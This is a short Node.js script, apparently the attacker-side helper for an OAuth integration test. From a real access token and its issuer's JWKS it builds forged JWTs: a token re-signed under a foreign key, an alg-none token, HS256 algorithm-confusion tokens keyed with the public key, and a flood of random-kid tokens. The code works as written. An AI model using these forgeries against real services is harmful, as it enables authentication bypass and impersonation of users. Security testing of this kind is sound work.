// The attacker's side of tests/it/oauth.rs: given a real access token and
// its issuer's JWKS on stdin (`{"token": "...", "jwks": {...}}`), prints
// forgeries of it as JSON, each carrying the token's own claims:
//   resigned   signed by another RSA key under the same `kid`
//   none       `alg: none` and no signature
//   hs256_pem  HS256, keyed with the issuer's public key as PEM (the
//              algorithm-confusion attack on verifiers that take the
//              key's bytes for an HMAC secret)
//   hs256_jwk  HS256, keyed with the public JWK's JSON text
//   unknown    `count` tokens (default 20), each with a fresh random `kid`,
//              to flood a verifier that fetches keys for unknown ids
import { createHmac, createPublicKey, createSign, generateKeyPairSync, randomUUID } from 'node:crypto';

const b64 = (data) => Buffer.from(data).toString('base64url');
const part = (json) => b64(JSON.stringify(json));

function rs256(header, claims, privateKey) {
  const input = `${part(header)}.${part(claims)}`;
  const signer = createSign('RSA-SHA256');
  signer.update(input);
  return `${input}.${signer.sign(privateKey).toString('base64url')}`;
}

function hs256(header, claims, secret) {
  const input = `${part({ ...header, alg: 'HS256' })}.${part(claims)}`;
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`;
}

const input = JSON.parse(await new Promise((resolve) => {
  let text = '';
  process.stdin.on('data', (chunk) => { text += chunk; });
  process.stdin.on('end', () => resolve(text));
}));
const [headerPart, claimsPart] = input.token.split('.');
const header = JSON.parse(Buffer.from(headerPart, 'base64url'));
const claims = JSON.parse(Buffer.from(claimsPart, 'base64url'));
const jwk = input.jwks.keys.find((k) => k.kid === header.kid);
const { privateKey: otherKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' });

const forged = {
  resigned: rs256(header, claims, otherKey),
  none: `${part({ ...header, alg: 'none' })}.${part(claims)}.`,
  hs256_pem: hs256(header, claims, pem),
  hs256_jwk: hs256(header, claims, JSON.stringify(jwk)),
  unknown: Array.from({ length: input.count ?? 20 }, () => rs256({ ...header, kid: randomUUID() }, claims, otherKey)),
};
process.stdout.write(JSON.stringify(forged));
